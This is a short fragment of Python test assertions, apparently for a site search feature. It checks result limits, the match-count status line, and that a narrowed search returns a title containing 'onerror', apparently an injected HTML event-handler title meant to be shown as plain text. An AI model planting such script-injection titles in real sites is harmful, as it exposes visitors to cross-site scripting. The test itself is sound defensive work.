    every, narrowed = site_results[-2:]  # results are shown as the exact titles, as text
    assert len(every["results"]) == min(50, len(titles)) and set(every["results"]) <= titles, every
    assert f"{len(titles)} articles match" in every["status"], every
    assert narrowed["results"] and set(narrowed["results"]) <= titles, narrowed
    assert any("onerror" in title for title in narrowed["results"]), narrowed
